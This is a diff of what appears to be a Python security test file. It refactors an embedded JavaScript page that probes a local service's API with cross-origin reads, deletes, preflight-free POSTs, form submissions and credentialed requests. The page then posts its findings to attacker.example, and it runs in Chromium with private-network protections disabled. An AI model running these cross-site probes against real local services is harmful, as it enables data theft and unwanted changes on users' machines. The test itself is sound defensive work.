@@ -23,44 +23,71 @@ from services import HTTPService
 ATTEMPTS = """
 const found = {};
 const base = BASE;
+const later = (milliseconds, end) => new Promise((yes, no) =>
+  setTimeout(() => end === 'sent' ? yes(end) : no(end), milliseconds));
 async function attempt(name, promise) {
-  try { found[name] = await Promise.race([promise(), new Promise((_, no) => setTimeout(() => no('nothing'), 3000))]); }
+  try { found[name] = await Promise.race([promise(), later(3000, 'nothing')]); }
   catch (error) { found[name] = 'failed: ' + error; }
 }
-function text(path, options) { return async () => { const a = await fetch(base + path, options); return a.status + ' ' + await a.text(); }; }
+function text(path, options) {
+  return async () => {
+    const answer = await fetch(base + path, options);
+    return answer.status + ' ' + await answer.text();
+  };
+}
+function added(kind, properties) {
+  return document.body.appendChild(Object.assign(document.createElement(kind), properties));
+}
 function element(kind, path) {
   return () => new Promise((yes, no) => {
-    const e = document.createElement(kind); e.onload = () => yes('loaded'); e.onerror = () => no('error'); e.src = base + path; document.body.append(e);
+    added(kind, { onload: () => yes('loaded'), onerror: () => no('error'), src: base + path });
   });
 }
 function form(path, type, value) {
-  return () => new Promise(yes => {
-    const frame = document.createElement('iframe'); frame.name = 'f' + Math.random(); document.body.append(frame);
-    const form = document.createElement('form'); form.method = 'POST'; form.enctype = type; form.action = base + path; form.target = frame.name;
-    const field = document.createElement('input'); field.name = value; field.value = ''; form.append(field); document.body.append(form);
-    form.submit(); setTimeout(() => yes('sent'), 500);
-  });
+  return () => {
+    const frame = added('iframe', { name: 'f' + Math.random() });
+    const action = base + path;
+    const form = added('form', { method: 'POST', enctype: type, action, target: frame.name });
+    form.append(added('input', { name: value, value: '' }));
+    form.submit();
+    return later(500, 'sent');
+  };
+}
+function post(path, body, more) {
+  return text(path, { method: 'POST', body, ...more });
 }
 (async () => {
   const load = '{"query":"owl","source":"sample","all":true}';
+  const unread = { mode: 'no-cors', headers: { 'Content-Type': 'text/plain' } };
+  const encoded = 'application/x-www-form-urlencoded';
   await attempt('read', text('/api/3/recordings?query=q:A'));
   await attempt('lists', text('/api/chirper/lists'));
   await attempt('export', text('/api/chirper/export'));
-  await attempt('forget', text('/api/chirper/lists?query=parrot&source=sample', {method: 'DELETE'}));
-  await attempt('load', text('/api/chirper/loads', {method: 'POST', body: load}));
-  await attempt('load without reading', text('/api/chirper/loads', {method: 'POST', body: load, mode: 'no-cors', headers: {'Content-Type': 'text/plain'}}));
-  await attempt('session', text('/session', {method: 'POST', body: '{"token":"' + '0'.repeat(32) + '"}'}));
-  await attempt('credentials', text('/api/chirper/lists', {credentials: 'include'}));
+  const list = '/api/chirper/lists?query=parrot&source=sample';
+  await attempt('forget', text(list, { method: 'DELETE' }));
+  await attempt('load', post('/api/chirper/loads', load));
+  await attempt('load without reading', post('/api/chirper/loads', load, unread));
+  await attempt('session', post('/session', JSON.stringify({ token: '0'.repeat(32) })));
+  await attempt('credentials', text('/api/chirper/lists', { credentials: 'include' }));
   await attempt('script', element('script', '/api/3/recordings?query=q:A'));
   await attempt('image', element('img', '/api/chirper/export'));
   await attempt('form', form('/api/chirper/loads', 'text/plain', load));
-  await attempt('usual form', form('/api/chirper/loads?query=owl', 'application/x-www-form-urlencoded', 'query'));
+  await attempt('usual form', form('/api/chirper/loads?query=owl', encoded, 'query'));
   await attempt('events', () => new Promise((yes, no) => {
-    const stream = new EventSource(base + '/events'); stream.addEventListener('state', e => yes(e.data)); stream.onerror = () => no('error');
+    const stream = new EventSource(base + '/events');
+    stream.addEventListener('state', (event) => yes(event.data));
+    stream.onerror = () => no('error');
   }));
-  await fetch('http://attacker.example/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify(found)});
+  const report = { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) };
+  await fetch('http://attacker.example/report', report);
 })();
 """
+
+
+# What newer browsers refuse: here the server must refuse it by itself.
+REFUSALS = [
+    "LocalNetworkAccessChecks", "BlockInsecurePrivateNetworkRequests",
+    "PrivateNetworkAccessRespectPreflightResults"]
 
 
 class Attacker(http.server.BaseHTTPRequestHandler):
@@ -114,19 +141,20 @@ def browse(proxy, page, base):
     """What the page reports."""
     Attacker.base, Attacker.report = base, None
     with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
+        command = [
+            shutil.which("chromium"), "--headless", "--no-sandbox", "--disable-gpu",
+            f"--user-data-dir={profile}", "--no-first-run",
+            f"--disable-features={','.join(REFUSALS)}", f"--proxy-server={proxy.address}",
+            "--remote-debugging-port=0", page]
         browser = subprocess.Popen(
-            [shutil.which("chromium"), "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={profile}", "--no-first-run",
-             # The server must refuse by itself what newer browsers refuse too.
-             "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessRespectPreflightResults",
-             f"--proxy-server={proxy.address}", "--remote-debugging-port=0", page],
-            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+            command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
         try:
-            end = time.time() + 90
+            end = time.time() + 600
             while Attacker.report is None and time.time() < end:
                 time.sleep(0.1)
         finally:
             browser.terminate()
-            browser.wait(timeout=20)
+            browser.wait(timeout=120)
     assert Attacker.report is not None, "the page did not report"
     return Attacker.report
 
@@ -148,9 +176,10 @@ def serving(*options):
 
 
 def state(chirper):
-    return [
-        (
-            one["query"], one["rows"]) for one in chirper.get("/api/chirper/lists")["queries"]], chirper.get("/api/chirper/loads")["loads"]
+    """The lists and their rows, and the loads."""
+    lists = chirper.get("/api/chirper/lists")["queries"]
+    loads = chirper.get("/api/chirper/loads")["loads"]
+    return [(one["query"], one["rows"]) for one in lists], loads
 
 
 def refused(report, chirper):
